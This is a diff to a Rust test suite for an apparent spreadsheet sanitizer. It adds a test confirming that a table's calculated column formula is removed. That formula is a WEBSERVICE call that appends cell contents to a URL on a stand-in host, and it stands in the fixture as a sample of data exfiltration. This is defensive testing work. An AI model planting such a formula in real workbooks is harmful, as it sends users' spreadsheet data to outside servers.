@@ -456,6 +456,7 @@ fn quarantines_a_macro_sheet_still_used_by_a_large_sheet_rewritten_in_parallel()
 // ---------------------------------------------------------------------------------------------
 
 const MARK: &str = HIDDEN_MARK;
+const S: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
 
 /// Sanitizes a hostile document and checks the output everywhere: the marker and the field
 /// words are gone from every part, the kept text is there, and a second pass removes nothing.
@@ -649,4 +650,36 @@ fn removes_outside_formulas_from_cells_validation_conditional_formats_extensions
     ] {
         assert!(!ws.contains(gone), "{gone} left: {ws}");
     }
+}
+
+#[test]
+fn removes_outside_formulas_from_table_columns() {
+    let sheet = "<sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>項目</t></is></c><c r=\"B1\" t=\"inlineStr\"><is><t>計算</t></is></c></row><row r=\"2\"><c r=\"A2\"><v>1</v></c><c r=\"B2\"><v>2</v></c></row></sheetData><tableParts count=\"1\"><tablePart r:id=\"rId1\"/></tableParts>";
+    let table = format!(
+        "<table xmlns=\"{S}\" id=\"1\" name=\"表1\" displayName=\"表1\" ref=\"A1:B2\"><tableColumns count=\"2\"><tableColumn id=\"1\" name=\"項目\" totalsRowFunction=\"custom\"><totalsRowFormula>SUBTOTAL(109,[項目])</totalsRowFormula></tableColumn><tableColumn id=\"2\" name=\"計算\"><calculatedColumnFormula>_xlfn.WEBSERVICE(\"http://{MARK}-t.invalid/\"&amp;[@項目])</calculatedColumnFormula></tableColumn></tableColumns></table>"
+    );
+    let pkg = xlsx_package("", sheet)
+        .part(
+            "xl/tables/table1.xml",
+            "application/vnd.openxmlformats-officedocument.spreadsheetml.table+xml",
+            table,
+        )
+        .rel(
+            "xl/worksheets/sheet1.xml",
+            "rId1",
+            "table",
+            "../tables/table1.xml",
+            false,
+        );
+    let outcome = assert_formulas_gone("表.xlsx", &pkg.build());
+    assert!(
+        removed(&outcome, What::DataConnection, "calculatedColumnFormula"),
+        "{:#?}",
+        outcome.report.removed
+    );
+    let table = zip_text(outcome.output().unwrap().bytes(), "xl/tables/table1.xml").unwrap();
+    assert!(
+        table.contains("SUBTOTAL(109,[項目])") && table.contains("name=\"計算\""),
+        "{table}"
+    );
 }
